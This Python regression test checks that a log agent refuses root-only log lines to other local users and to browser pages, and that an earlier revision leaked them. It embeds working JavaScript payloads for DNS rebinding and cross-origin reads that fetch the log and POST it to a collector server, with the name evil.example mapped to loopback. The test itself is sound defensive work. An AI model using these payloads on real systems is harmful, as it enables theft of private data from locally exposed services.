"""Proof that nobody borrows the agent's eyes: `python tests/proofs/borrowed_eyes.py [REVISION]`, as root with Chromium.

A log that only root may read lies below an agent of root. Asked by other users of the machine, over loopback and a Unix
socket, and by pages in a browser on it, of another origin and with a name that is made to mean the agent (DNS
rebinding), it gives nothing; asked by whom its settings name, it gives the line. Given a revision that lent its eyes,
it shows that the same questions stole the line there. Exits 1 if a check fails, 2 where something is missing.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from proving import Checks, eventually, must, run

TREE = Path(__file__).parents[2]
LINE = "2026-11-29T10:00:00Z only root may read this"
LOGS = "/logs?filename=auth.log"
ROUTES = (LOGS, "/hits?filename=auth.log&step=1d", "/files", "/hosts")
EVIL = "evil.example"
"""The name of the page's owner, which the browser is made to find on this machine."""
STRANGER, FRIEND = "nobody", "daemon"
"""Users that every machine has; the second is named in the settings."""
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
PATIENCE = 60
"""Seconds that a browser has to start, load a page and report."""

REBINDING = """
<script>
async function steal() {
  for (;;) {
    try {
      const answer = await fetch("%(logs)s", {cache: "no-store"});
      if (!answer.headers.get("x-page")) {
        const stolen = answer.status + " " + await answer.text();
        return fetch("%(thief)s", {method: "POST", mode: "no-cors", body: stolen});
      }
    } catch (gone) {}
    await new Promise(wait => setTimeout(wait, 100));
  }
}
steal();
</script>
"""
"""A page that asks its own server again and again until another one has its name: what rebinding comes to."""
OTHER_ORIGIN = """
<script>
async function steal() {
  let stolen = [];
  for (const mode of ["cors", "no-cors"]) {
    try {
      const answer = await fetch("%(agent)s%(logs)s", {mode: mode, cache: "no-store"});
      stolen.push(mode + " " + answer.status + " " + await answer.text());
    } catch (refused) { stolen.push(mode + " refused"); }
  }
  return fetch("%(thief)s", {method: "POST", mode: "no-cors", body: stolen.join("; ")});
}
steal();
</script>
"""
"""A page of another origin that asks the agent by its address."""


class Page(http.server.BaseHTTPRequestHandler):
    """Serves a page to whoever asks, and takes what it has stolen."""

    def __init__(self, page: str, stolen: list[str], *others: object) -> None:
        self._page = page
        self._stolen = stolen
        super().__init__(*others)  # type: ignore[arg-type]  # as the server calls it

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("x-page", "yes")
        self.send_header("connection", "close")
        self.end_headers()
        self.wfile.write(self._page.encode())

    def do_POST(self) -> None:
        self._stolen.append(self.rfile.read(int(self.headers["content-length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@contextlib.contextmanager
def serving(page: str, stolen: list[str], port: int = 0) -> Iterator[int]:
    """A server of a page on loopback; its port."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", port), partial(Page, page, stolen)) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            thread.join()


@contextlib.contextmanager
def agent(code: Path, root: Path, *flags: str, port: int = 0) -> Iterator[str]:
    """An agent of a tree that serves `root` on loopback; its address."""
    command = [sys.executable, "-m", "logagent", "serve", "--name", "web-1", "--root", str(root), *flags]
    with subprocess.Popen(
        [*command, "--listen", f"127.0.0.1:{port}"], stdout=subprocess.PIPE, cwd=code, text=True
    ) as popen:
        try:
            assert popen.stdout is not None
            yield popen.stdout.readline().strip().rpartition(" on ")[2].rpartition(", ")[2]
        finally:
            popen.terminate()


@contextlib.contextmanager
def browsing(browser: str, url: str) -> Iterator[None]:
    """A browser that shows a page, in whose eyes the evil name is this machine."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        rules = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"
        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", f"--user-data-dir={profile}"]
        with subprocess.Popen(
            [browser, *flags, "--remote-debugging-port=0", rules, url],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        ) as popen:
            try:
                yield
            finally:
                os.killpg(popen.pid, 9)


def by(user: str, *command: str) -> str:
    """What a command prints when a user of this machine runs it."""
    entry = pwd.getpwnam(user)
    become = ["setpriv", "--reuid", str(entry.pw_uid), "--regid", str(entry.pw_gid), "--clear-groups"]
    return run([*become, "curl", "-s", "-i", "-m", "20", *command]).stdout


def prove_users(checks: Checks, code: Path, root: Path, sockets: Path) -> None:
    """Users of the machine, over loopback in both versions of HTTP, and over a Unix socket."""
    path = sockets / "agent.sock"
    flags = (f"--listen=unix:{path}", f"--local-users={FRIEND}")
    with agent(code, root, *flags) as url:
        ways = {
            "HTTP/1.1": [url],
            "HTTP/2": ["--http2-prior-knowledge", url],
            "IPv4 in IPv6": [url.replace("127.0.0.1", "[::ffff:127.0.0.1]")],
            "a Unix socket": ["--unix-socket", str(path), "http://localhost"],
        }
        for way, (*options, base) in ways.items():
            for route in ROUTES:
                said = by(STRANGER, *options, base + route)
                refused = " 403 " in said.split("\n")[0] + " " and "would allow it" in said and LINE not in said
                checks.check(f"{STRANGER} over {way} gets nothing from {route}", refused, said[-150:].strip())
            checks.check(f"{FRIEND} over {way} gets the line", LINE in by(FRIEND, *options, base + LOGS))
            checks.check(
                f"{STRANGER} over {way} is told the health", '"ok"' in by(STRANGER, *options, f"{base}/healthz")
            )
    with agent(code, root, "--trust-loopback") as url:
        checks.check("with --trust-loopback everybody gets the line", LINE in by(STRANGER, url + LOGS))
    checks.check("the socket is removed in the end", eventually(lambda: not path.exists(), 10))


def stolen_by_rebinding(browser: str, code: Path, root: Path) -> str:
    """What a page reads once its name means the agent, on the port that its own server had."""
    stolen: list[str] = []
    with serving("", stolen) as thief:
        page = REBINDING % {"logs": LOGS, "thief": f"http://127.0.0.1:{thief}/"}
        with contextlib.ExitStack() as stack:
            seen: list[str] = []
            with serving(page, seen) as port:
                stack.enter_context(browsing(browser, f"http://{EVIL}:{port}/"))
                time.sleep(PATIENCE / 10)
            stack.enter_context(agent(code, root, port=port))
            eventually(lambda: bool(stolen), PATIENCE)
    return "; ".join(stolen)


def stolen_from_another_origin(browser: str, code: Path, root: Path) -> str:
    """What a page of another origin reads of the agent."""
    stolen: list[str] = []
    with agent(code, root) as url, serving("", stolen) as thief:
        page = OTHER_ORIGIN % {"agent": url, "logs": LOGS, "thief": f"http://127.0.0.1:{thief}/"}
        with serving(page, []) as port, browsing(browser, f"http://{EVIL}:{port}/"):
            eventually(lambda: bool(stolen), PATIENCE)
    return "; ".join(stolen)


def prove_pages(checks: Checks, browser: str, code: Path, root: Path) -> None:
    said = stolen_by_rebinding(browser, code, root)
    checks.check(
        "a page whose name means the agent by now gets a 421", said.startswith("421 ") and LINE not in said, said
    )
    said = stolen_from_another_origin(browser, code, root)
    checks.check("a page of another origin gets nothing", said.startswith("cors refused") and LINE not in said, said)


def prove_theft(checks: Checks, browser: str, revision: str, root: Path) -> None:
    """An earlier revision did lend its eyes, so that the checks above are able to fail."""
    with tempfile.TemporaryDirectory() as earlier:
        packed = subprocess.run(["git", "archive", revision], cwd=TREE, capture_output=True, check=True).stdout
        must(["tar", "-x", "-C", earlier], stdin=packed)
        with agent(Path(earlier), root) as url:
            checks.check(f"{revision} gave {STRANGER} the line", LINE in by(STRANGER, url + LOGS))
        said = stolen_by_rebinding(browser, Path(earlier), root)
        checks.check(f"{revision} gave a page whose name means the agent the line", LINE in said, said)


def main() -> int:
    browser = next(filter(None, map(shutil.which, BROWSERS)), None)
    missing = [name for name in ("curl", "setpriv") if shutil.which(name) is None]
    if os.geteuid() != 0 or missing or browser is None:
        print(f"borrowed_eyes: needs root, curl, setpriv and one of {', '.join(BROWSERS)}", file=sys.stderr)
        return 2
    checks = Checks()
    with tempfile.TemporaryDirectory() as directory:
        root, sockets = Path(directory, "log"), Path(directory, "run")
        root.mkdir(mode=0o700)
        sockets.mkdir()
        for open_to_all in (Path(directory), sockets):
            open_to_all.chmod(0o755)
        (root / "auth.log").write_text(f"{LINE}\n")
        prove_users(checks, TREE, root, sockets)
        prove_pages(checks, browser, TREE, root)
        if len(sys.argv) > 1:
            prove_theft(checks, browser, sys.argv[1], root)
    return checks.closing()


if __name__ == "__main__":
    sys.exit(main())
